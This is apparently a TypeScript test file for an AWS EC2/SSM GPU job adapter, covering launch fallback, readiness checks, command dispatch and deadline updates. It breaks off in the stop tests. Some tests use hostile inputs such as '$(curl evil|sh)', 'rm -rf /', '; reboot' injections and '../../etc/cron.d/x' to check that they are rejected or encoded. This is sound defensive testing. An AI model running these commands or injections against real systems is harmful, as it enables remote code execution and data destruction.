import assert from 'node:assert/strict';
import { beforeEach, describe, test } from 'node:test';
import {
  DescribeInstancesCommand,
  EC2Client,
  EC2ServiceException,
  RunInstancesCommand,
  TerminateInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  DescribeInstanceInformationCommand,
  GetCommandInvocationCommand,
  ListCommandsCommand,
  SSMClient,
  SSMServiceException,
  SendCommandCommand,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { PartialLaunchView, clientToken, vcpuQuotaName } from '../../lambdas/adapters/ec2-launch.js';
import { Ec2SsmCompute, type Ec2SsmComputeProps } from '../../lambdas/adapters/ec2-ssm-compute.js';
import { deadlineScript, instanceScript, type DockerRunOptions } from '../../lambdas/core/container-command.js';
import { LaunchFailed, NoCapacity, ValidationError } from '../../lambdas/core/errors.js';
import type { ContainerSpec } from '../../lambdas/ports/compute.js';
import { launchingJob } from '../support/jobs.js';
import { awsError } from '../support/aws-errors.js';

const ec2 = new EC2Client({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
const ssm = new SSMClient({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
const ec2Mock = mockClient(ec2);
const ssmMock = mockClient(ssm);

const PROPS: Ec2SsmComputeProps = {
  ec2,
  ssm,
  launchTemplateId: 'lt-0123456789abcdef0',
  subnetIds: ['subnet-a', 'subnet-b'],
  pools: { a10g: { instanceTypes: ['g5.xlarge', 'g5.2xlarge'], memory: '14g' } },
  now: () => new Date('2030-01-01T00:00:00.000Z'),
};

const job = launchingJob;

function spec(overrides: Partial<ContainerSpec> = {}): ContainerSpec {
  return {
    jobId: 'job-7',
    image: `nvidia/cuda:12.4.1@sha256:${'a'.repeat(64)}`,
    command: ['python', 'train.py', '$(id)'],
    env: { EPOCHS: '3' },
    gpus: 1,
    expiresAt: '2030-01-01T01:00:00.000Z',
    ...overrides,
  };
}

const BASE_TAGS = [
  { Key: 'Name', Value: 'flare-job-7' },
  { Key: 'managed-by', Value: 'flare' },
  { Key: 'flare:job', Value: 'job-7' },
  { Key: 'flare:project', Value: 'vision' },
  { Key: 'flare:owner', Value: 'alice' },
  { Key: 'flare:pool', Value: 'a10g' },
];

/** Attempt 0, launched at PROPS.now() (00:00): + 600 s agent timeout + 60 min live timeout. */
const TAGS = [
  ...BASE_TAGS,
  { Key: 'flare:attempt', Value: '0' },
  { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' },
];

function runInput(instanceType: string, subnetId: string, clientToken: string, count = 1, tags = TAGS) {
  return {
    LaunchTemplate: { LaunchTemplateId: 'lt-0123456789abcdef0' },
    InstanceType: instanceType,
    MinCount: count,
    MaxCount: count,
    SubnetId: subnetId,
    ClientToken: clientToken,
    TagSpecifications: [
      { ResourceType: 'instance', Tags: tags },
      { ResourceType: 'volume', Tags: tags },
    ],
  };
}

const DESCRIBE_JOB_INSTANCES = {
  Filters: [
    { Name: 'tag:flare:job', Values: ['job-7'] },
    { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
  ],
  NextToken: undefined,
};

function reservation(...ids: string[]) {
  return { Reservations: [{ ReservationId: 'r-1', Instances: ids.map((InstanceId) => ({ InstanceId })) }] };
}

beforeEach(() => {
  ec2Mock.reset();
  ssmMock.reset();
  ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [] });
});

describe('Ec2SsmCompute.launch', () => {
  test('runs the pool instance type from the launch template in the first subnet, tagged with attempt and dead-man deadline, with a ClientToken from job and attempt', async () => {
    ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }, { InstanceId: 'i-2' }] });

    const launched = await new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 2 }));

    assert.deepEqual(launched, { instanceIds: ['i-1', 'i-2'] });
    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, DESCRIBE_JOB_INSTANCES);
    const calls = ec2Mock.commandCalls(RunInstancesCommand);
    assert.equal(calls.length, 1);
    assert.deepEqual(calls[0].args[0].input, runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 2));
  });

  test('the deadline counts from admission, so a retry later in the same attempt sends the identical request', async () => {
    ec2Mock.on(RunInstancesCommand).resolves({ ReservationId: 'r-1', Instances: [{ InstanceId: 'i-1' }] });
    let clock = new Date('2030-01-01T00:07:00.000Z');
    const compute = new Ec2SsmCompute({ ...PROPS, agentTimeoutSeconds: 900, now: () => clock });
    const admitted = job({ admittedAt: '2030-01-01T00:05:00.000Z', liveTimeoutMinutes: 30.5 });

    await compute.launch(admitted);
    clock = new Date('2030-01-01T00:21:00.000Z');
    await compute.launch(admitted);

    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
    // 00:05 + 900 s + 30.5 min
    const tags = [
      ...BASE_TAGS,
      { Key: 'flare:attempt', Value: '0' },
      { Key: 'flare:expires-at', Value: '2030-01-01T00:50:30.000Z' },
    ];
    assert.deepEqual(inputs, [
      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags),
      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags),
    ]);
  });

  test('a repeated call returns the instances already launched and starts nothing new', async () => {
    ec2Mock.on(DescribeInstancesCommand).resolves(reservation('i-1'));

    const launched = await new Ec2SsmCompute(PROPS).launch(job());

    assert.deepEqual(launched, { instanceIds: ['i-1'] });
    assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 0);
  });

  test('a repeated call that EC2 cannot show yet sends the identical request, so the ClientToken returns the same reservation', async () => {
    ec2Mock.on(RunInstancesCommand).resolves({ ReservationId: 'r-1', Instances: [{ InstanceId: 'i-1' }] });
    const compute = new Ec2SsmCompute(PROPS);

    const first = await compute.launch(job());
    const second = await compute.launch(job());

    assert.deepEqual(first, second);
    const calls = ec2Mock.commandCalls(RunInstancesCommand);
    assert.equal(calls.length, 2);
    assert.deepEqual(calls[1].args[0].input, calls[0].args[0].input);
    assert.equal(calls[1].args[0].input.ClientToken, 'job-7.0.0');
  });

  test('a requeued job (next launch attempt) gets fresh ClientTokens and is tagged with its attempt', async () => {
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .resolves({ Instances: [{ InstanceId: 'i-5' }] });

    await new Ec2SsmCompute(PROPS).launch(job({ launchAttempt: 3 }));

    const tags = [
      ...BASE_TAGS,
      { Key: 'flare:attempt', Value: '3' },
      { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' },
    ];
    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      runInput('g5.xlarge', 'subnet-a', 'job-7.3.0', 1, tags),
      runInput('g5.xlarge', 'subnet-b', 'job-7.3.1', 1, tags),
    ]);
  });

  test('ClientTokens fit EC2s 64 characters for the longest job ids and stay distinct', () => {
    const flareId = `j-${'a'.repeat(16)}`;
    assert.equal(clientToken(flareId, 12, 7), `${flareId}.12.7`);
    const longest = 'x'.repeat(60);
    const tokens = [
      clientToken(longest, 0, 0),
      clientToken(longest, 10, 0),
      clientToken(longest, 1, 0),
      clientToken(longest, 0, 10),
    ];
    for (const token of tokens) assert.ok(token.length <= 64, token);
    assert.equal(new Set(tokens).size, tokens.length);
    assert.equal(clientToken(longest, 10, 0), clientToken(longest, 10, 0));
  });

  test('gives each instance an encrypted gp3 root volume of the size the job asks for', async () => {
    ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }] });

    await new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 500 }));
    await new Ec2SsmCompute({ ...PROPS, rootDeviceName: '/dev/xvda' }).launch(job({ volumeSizeGb: 200 }));

    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs[0], {
      ...runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
      BlockDeviceMappings: [
        {
          DeviceName: '/dev/sda1',
          Ebs: { VolumeSize: 500, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true },
        },
      ],
    });
    assert.deepEqual(inputs[1].BlockDeviceMappings, [
      {
        DeviceName: '/dev/xvda',
        Ebs: { VolumeSize: 200, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true },
      },
    ]);
  });

  for (const code of [
    'InsufficientInstanceCapacity',
    'Unsupported',
    'InsufficientFreeAddressesInSubnet',
    'InsufficientCapacity',
  ]) {
    test(`on ${code} tries the next subnet with its own ClientToken`, async () => {
      ec2Mock
        .on(RunInstancesCommand)
        .rejectsOnce(awsError(EC2ServiceException, code))
        .resolves({ Instances: [{ InstanceId: 'i-9' }] });

      const launched = await new Ec2SsmCompute(PROPS).launch(job());

      assert.deepEqual(launched, { instanceIds: ['i-9'] });
      const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
      assert.deepEqual(inputs, [
        runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
        runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'),
      ]);
    });
  }

  test('falls back to the next instance type once every subnet lacks the first', async () => {
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .resolves({ Instances: [{ InstanceId: 'i-3' }] });

    const launched = await new Ec2SsmCompute(PROPS).launch(job());

    assert.deepEqual(launched, { instanceIds: ['i-3'] });
    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
      runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'),
      runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'),
    ]);
  });

  test('throws NoCapacity (not a job failure) naming every attempt when all types and subnets fail', async () => {
    const last = awsError(EC2ServiceException, 'InsufficientFreeAddressesInSubnet');
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .rejectsOnce(awsError(EC2ServiceException, 'Unsupported'))
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .rejectsOnce(last);

    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => {
      assert.ok(error instanceof NoCapacity);
      assert.ok(!(error instanceof LaunchFailed));
      assert.equal(error.name, 'NoCapacity');
      assert.equal(error.operatorProblem, false);
      assert.equal(
        error.message,
        'no capacity for pool a10g (g5.xlarge in subnet-a: InsufficientInstanceCapacity; g5.xlarge in subnet-b: Unsupported; g5.2xlarge in subnet-a: InsufficientInstanceCapacity; g5.2xlarge in subnet-b: InsufficientFreeAddressesInSubnet)',
      );
      assert.equal(error.cause, last);
      return true;
    });
    const tokens = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input.ClientToken);
    assert.deepEqual(tokens, ['job-7.0.0', 'job-7.0.1', 'job-7.0.2', 'job-7.0.3']);
  });

  test('on VcpuLimitExceeded skips the other subnets of that type, tries the fallback type, and names the quota to raise', async () => {
    const vcpu = awsError(EC2ServiceException, 'VcpuLimitExceeded');
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(vcpu)
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'))
      .rejectsOnce(awsError(EC2ServiceException, 'InsufficientInstanceCapacity'));

    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => {
      assert.ok(error instanceof NoCapacity);
      assert.equal(error.operatorProblem, true);
      assert.equal(
        error.message,
        'no capacity for pool a10g (g5.xlarge in subnet-a: VcpuLimitExceeded; g5.2xlarge in subnet-a: InsufficientInstanceCapacity; g5.2xlarge in subnet-b: InsufficientInstanceCapacity); ' +
          'the account\'s vCPU service quota for the g5 instance family must be raised (Service Quotas, Amazon EC2: "Running On-Demand G and VT instances")',
      );
      return true;
    });
    // The skipped position keeps its token number, so the next type's tokens do not shift.
    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
      runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'),
      runInput('g5.2xlarge', 'subnet-b', 'job-7.0.3'),
    ]);
  });

  test('a vCPU limit on one type and capacity on the fallback still launches', async () => {
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'VcpuLimitExceeded'))
      .resolves({ Instances: [{ InstanceId: 'i-4' }] });
    assert.deepEqual(await new Ec2SsmCompute(PROPS).launch(job()), { instanceIds: ['i-4'] });
  });

  test('names the vCPU quota of each instance family', () => {
    assert.equal(vcpuQuotaName('g4dn.xlarge'), 'Running On-Demand G and VT instances');
    assert.equal(vcpuQuotaName('p4d.24xlarge'), 'Running On-Demand P instances');
    assert.equal(vcpuQuotaName('trn1.32xlarge'), 'Running On-Demand Trn instances');
    assert.equal(vcpuQuotaName('inf2.xlarge'), 'Running On-Demand Inf instances');
    assert.equal(vcpuQuotaName('m5.large'), 'Running On-Demand Standard (A, C, D, H, I, M, R, T, Z) instances');
  });

  test('throws other EC2 errors as they are, without trying further', async () => {
    const throttled = awsError(EC2ServiceException, 'RequestLimitExceeded');
    ec2Mock.on(RunInstancesCommand).rejects(throttled);

    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => error === throttled);
    assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 1);
  });

  test('refuses a pool it has no EC2 configuration for, more nodes than SSM can command, and nonsense sizes', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ pool: 'h100' })), LaunchFailed);
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 51 })), LaunchFailed);
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 0 })), LaunchFailed);
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 1.5 })), LaunchFailed);
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ launchAttempt: -1 })), LaunchFailed);
    assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 0);
  });

  test('never runs a job on more instances than it asked for, and retries a view that shows only some', async () => {
    ec2Mock.on(DescribeInstancesCommand).resolves(reservation('i-1', 'i-2'));
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 1 })), LaunchFailed);
    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 3 })), PartialLaunchView);
    assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 0);
  });
});

describe('Ec2SsmCompute.isReady', () => {
  const ready = job({ instanceIds: ['i-1', 'i-2'], nodeCount: 2 });

  test('is true when SSM reports every instance Online', async () => {
    ssmMock
      .on(DescribeInstanceInformationCommand)
      .resolvesOnce({ InstanceInformationList: [{ InstanceId: 'i-1', PingStatus: 'Online' }], NextToken: 'page-2' })
      .resolvesOnce({ InstanceInformationList: [{ InstanceId: 'i-2', PingStatus: 'Online' }] });

    assert.equal(await new Ec2SsmCompute(PROPS).isReady(ready), true);
    const inputs = ssmMock.commandCalls(DescribeInstanceInformationCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      { Filters: [{ Key: 'InstanceIds', Values: ['i-1', 'i-2'] }], MaxResults: 50, NextToken: undefined },
      { Filters: [{ Key: 'InstanceIds', Values: ['i-1', 'i-2'] }], MaxResults: 50, NextToken: 'page-2' },
    ]);
  });

  test('is false while an instance is not registered yet', async () => {
    ssmMock
      .on(DescribeInstanceInformationCommand)
      .resolves({ InstanceInformationList: [{ InstanceId: 'i-1', PingStatus: 'Online' }] });
    assert.equal(await new Ec2SsmCompute(PROPS).isReady(ready), false);
  });

  test('is false while an instance has lost its connection', async () => {
    ssmMock.on(DescribeInstanceInformationCommand).resolves({
      InstanceInformationList: [
        { InstanceId: 'i-1', PingStatus: 'Online' },
        { InstanceId: 'i-2', PingStatus: 'ConnectionLost' },
      ],
    });
    assert.equal(await new Ec2SsmCompute(PROPS).isReady(ready), false);
  });

  test('a job without instances is a launch failure, not a wait', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).isReady(job()), LaunchFailed);
    assert.equal(ssmMock.calls().length, 0);
  });
});

describe('Ec2SsmCompute.start', () => {
  const single = job({ instanceIds: ['i-1'] });
  const multi = job({ instanceIds: ['i-1', 'i-2', 'i-3'], nodeCount: 3 });
  const listInput = (InstanceId: string, document = 'AWS-RunShellScript') => ({
    InstanceId,
    Filters: [{ key: 'DocumentName', value: document }],
    MaxResults: 50,
    NextToken: undefined,
  });
  const SCRIPT_OPTIONS: DockerRunOptions = {
    memory: '14g',
    scratchDir: '/var/lib/flare/scratch',
    // The job's $FLARE_OUTPUT_DIR, mounted at /outputs.
    outputDir: '/var/lib/flare/outputs/job-7',
  };
  /** Ranks reach each other over the host network. */
  const MULTI_OPTIONS: DockerRunOptions = { ...SCRIPT_OPTIONS, hostNetwork: true };
  const torchrun = (rank: number) => ({
    NODE_RANK: String(rank),
    WORLD_SIZE: '3',
    MASTER_ADDR: '10.0.1.17',
    MASTER_PORT: '29500',
  });
  const sendInput = (instanceId: string, script: string) => ({
    DocumentName: 'AWS-RunShellScript',
    InstanceIds: [instanceId],
    Comment: 'flare:job=job-7',
    // Delivery bounded by the agent's timeout (600 s by default), not SSM's hour: a command never delivered fails the job soon.
    TimeoutSeconds: 600,
    Parameters: { commands: [script], executionTimeout: ['172800'] },
  });

  function masterDescribed() {
    ec2Mock
      .on(DescribeInstancesCommand, { InstanceIds: ['i-1'] })
      .resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1', PrivateIpAddress: '10.0.1.17' }] }] });
  }

  test('single node: sends the instance script with the job in the comment and the longest execution timeout', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-1' } });

    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).start(single, spec());

    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1'));
    const sends = ssmMock.commandCalls(SendCommandCommand);
    assert.equal(sends.length, 1);
    const expectedScript = instanceScript(spec(), {
      ...SCRIPT_OPTIONS,
      logDriver: 'awslogs',
      logOptions: { 'awslogs-group': '/flare/jobs', 'awslogs-stream': 'job-7' },
    });
    assert.deepEqual(sends[0].args[0].input, {
      ...sendInput('i-1', expectedScript),
      CloudWatchOutputConfig: { CloudWatchLogGroupName: '/flare/jobs', CloudWatchOutputEnabled: true },
    });
    assert.ok(!expectedScript.includes('$(id)'), 'job text travels encoded');
    assert.ok(
      expectedScript.includes('echo 2030-01-01T01:00:00.000Z > /var/lib/flare/expires-at.job-7.tmp'),
      'the instance learns the job expiry',
    );
    assert.equal(ec2Mock.commandCalls(DescribeInstancesCommand).length, 0, 'no rendezvous address for one node');
  });

  test("a template that allows root runs the image's own user; otherwise the unprivileged default", async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(
      { ...single, allowRoot: true },
      spec({ allowRoot: true }),
    );
    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(single, spec());
    const [root, plain] = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input.Parameters!.commands![0]);
    assert.equal(root, instanceScript(spec({ allowRoot: true }), { ...SCRIPT_OPTIONS, allowRoot: true }));
    assert.equal(plain, instanceScript(spec(), SCRIPT_OPTIONS));
    assert.notEqual(root, plain);
  });

  test('without a log group sends no CloudWatch config and leaves the log driver to docker', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});

    await new Ec2SsmCompute({
      ...PROPS,
      agentDocument: 'Flare-RunJob',
      dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' },
    }).start(single, spec());

    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1', 'Flare-RunJob'));
    assert.deepEqual(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input, {
      ...sendInput(
        'i-1',
        instanceScript(spec(), {
          memory: '14g',
          shmSize: '8g',
          scratchDir: '/mnt/nvme/scratch',
          outputDir: '/var/lib/flare/outputs/job-7',
        }),
      ),
      DocumentName: 'Flare-RunJob',
    });
  });

  test('multi-node: one command per instance, each with its torchrun rank and the first instance as rendezvous, overriding the job env', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();
    const jobSpec = spec({ env: { EPOCHS: '3', NODE_RANK: '9', MASTER_ADDR: 'evil.example.com' } });

    await new Ec2SsmCompute(PROPS).start(multi, jobSpec);

    assert.deepEqual(
      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
      [listInput('i-1'), listInput('i-2'), listInput('i-3')],
    );
    assert.deepEqual(
      ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input),
      [{ InstanceIds: ['i-1'], NextToken: undefined }],
    );
    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
    assert.deepEqual(
      sends,
      ['i-1', 'i-2', 'i-3'].map((id, rank) =>
        sendInput(id, instanceScript({ ...jobSpec, env: { EPOCHS: '3', ...torchrun(rank) } }, MULTI_OPTIONS)),
      ),
    );
  });

  test('multi-node with another rendezvous port', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute({ ...PROPS, masterPort: 23456 }).start(multi, spec());

    const last = ssmMock.commandCalls(SendCommandCommand)[2].args[0].input;
    assert.deepEqual(
      last,
      sendInput(
        'i-3',
        instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(2), MASTER_PORT: '23456' } }), MULTI_OPTIONS),
      ),
    );
  });

  test('a repeated multi-node call resends only to the instances that have no command yet', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock
      .on(ListCommandsCommand, { InstanceId: 'i-1' })
      .resolves({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7' }] });
    ssmMock
      .on(ListCommandsCommand, { InstanceId: 'i-3' })
      .resolves({ Commands: [{ CommandId: 'c-3', Comment: 'flare:job=job-7' }] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute(PROPS).start(multi, spec());

    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
    assert.deepEqual(sends, [
      sendInput('i-2', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(1) } }), MULTI_OPTIONS)),
    ]);
  });

  test('a repeated call finds its command by comment across pages and sends nothing', async () => {
    ssmMock
      .on(ListCommandsCommand)
      .resolvesOnce({ Commands: [{ CommandId: 'c-0', Comment: 'flare:job=job-70' }], NextToken: 'next' })
      .resolvesOnce({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7', Status: 'InProgress' }] });

    await new Ec2SsmCompute(PROPS).start(single, spec());

    assert.deepEqual(
      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
      [listInput('i-1'), { ...listInput('i-1'), NextToken: 'next' }],
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('a first instance without a private address fails the start before anything is sent', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1' }] }] });

    await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec()), LaunchFailed);
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('refuses a spec for another job, a job without instances, and instances that do not match its nodes', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec({ jobId: 'job-8' })), ValidationError);
    await assert.rejects(new Ec2SsmCompute(PROPS).start(job(), spec()), LaunchFailed);
    await assert.rejects(
      new Ec2SsmCompute(PROPS).start(job({ instanceIds: ['i-1', 'i-2'], nodeCount: 3 }), spec()),
      LaunchFailed,
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  for (const [what, hostile] of [
    ['a flag as image', { image: '--privileged' }],
    ['an image with a shell command', { image: `alpine;id@sha256:${'a'.repeat(64)}` }],
    ['a reserved env name', { env: { NVIDIA_VISIBLE_DEVICES: 'all' } }],
    ['a shell command as expiry', { expiresAt: '2030-01-01T01:00:00.000Z; reboot' }],
    ['a newline in the expiry', { expiresAt: '2030-01-01T01:00:00.000Z\nreboot' }],
  ] as const) {
    test(`refuses ${what} on every node before anything is sent`, async () => {
      ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
      masterDescribed();
      await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec(hostile)), ValidationError);
      await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec(hostile)), ValidationError);
      assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
    });
  }

  test('hostile command and env text reaches no node in the clear', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute(PROPS).start(
      multi,
      spec({ command: ['sh', '-c', '$(curl evil|sh)', '--privileged'], env: { X: '`reboot`\nrm -rf /' } }),
    );

    for (const call of ssmMock.commandCalls(SendCommandCommand)) {
      const [script] = call.args[0].input.Parameters!.commands!;
      for (const text of ['curl evil', 'reboot', 'rm -rf', 'privileged'])
        assert.ok(!script.includes(text), `${text} in script`);
    }
  });
});

describe('Ec2SsmCompute.updateExpiry', () => {
  const NEW_EXPIRY = '2030-01-01T03:30:00.000Z';

  test('sends one deadline rewrite to every instance of the job, under its own comment and a short timeout', async () => {
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-9' } });

    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).updateExpiry(
      job({ state: 'RUNNING', instanceIds: ['i-1', 'i-2'], nodeCount: 2 }),
      NEW_EXPIRY,
    );

    const sends = ssmMock.commandCalls(SendCommandCommand);
    assert.equal(sends.length, 1);
    assert.deepEqual(sends[0].args[0].input, {
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: ['i-1', 'i-2'],
      Comment: 'flare:deadline=job-7',
      Parameters: { commands: [deadlineScript('job-7', NEW_EXPIRY)], executionTimeout: ['60'] },
    });
    const [script] = sends[0].args[0].input.Parameters!.commands!;
    assert.ok(script.includes(`echo ${NEW_EXPIRY} > /var/lib/flare/expires-at.job-7.tmp`), script);
    assert.equal(
      ssmMock.commandCalls(ListCommandsCommand).length,
      0,
      'no lookup: rewriting the deadline twice is harmless',
    );
  });

  test('uses the configured agent document', async () => {
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunShellScript' }).updateExpiry(
      job({ instanceIds: ['i-1'] }),
      NEW_EXPIRY,
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.DocumentName, 'Flare-RunShellScript');
  });

  test("its command is not taken for the job's container command by the compute events", async () => {
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY);
    const Comment = ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.Comment;
    ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
    assert.equal(
      await new Ec2SsmCompute(PROPS).commandOutcome('c-9', 'i-1'),
      undefined,
      'a finished deadline rewrite is no exit 0 of the job',
    );
  });

  for (const [what, id, expiresAt] of [
    ['a shell command in the expiry', 'job-7', `${NEW_EXPIRY}; reboot`],
    ['a newline in the expiry', 'job-7', `${NEW_EXPIRY}\nreboot`],
    ['a command substitution as expiry', 'job-7', '$(reboot)'],
    ['an expiry that is not UTC ISO 8601', 'job-7', '2030-01-01 03:30'],
    ['a shell command in the job id', 'job-7;reboot', NEW_EXPIRY],
    ['a command substitution as job id', '$(reboot)', NEW_EXPIRY],
    ['a path in the job id', '../../etc/cron.d/x', NEW_EXPIRY],
  ] as const) {
    test(`refuses ${what}: nothing is sent`, async () => {
      ssmMock.on(SendCommandCommand).resolves({});
      await assert.rejects(
        new Ec2SsmCompute(PROPS).updateExpiry(job({ id, instanceIds: ['i-1'] }), expiresAt),
        ValidationError,
      );
      assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
    });
  }

  test('a job without instances is a launch failure; nothing is sent', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).updateExpiry(job(), NEW_EXPIRY), LaunchFailed);
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('throws what SSM throws, so the workflow retries', async () => {
    const throttled = awsError(SSMServiceException, 'ThrottlingException', { message: 'mocked' });
    ssmMock.on(SendCommandCommand).rejects(throttled);
    await assert.rejects(
      new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY),
      (error: unknown) => error === throttled,
    );
  });
});

describe('Ec2SsmCompute.stop', () => {
  test('terminates the job instances and any EC2 tagged for the job', async () => {
    ec2Mock.on(DescribeInstancesCommand).resolves(reservation('i-2', 'i-3'));
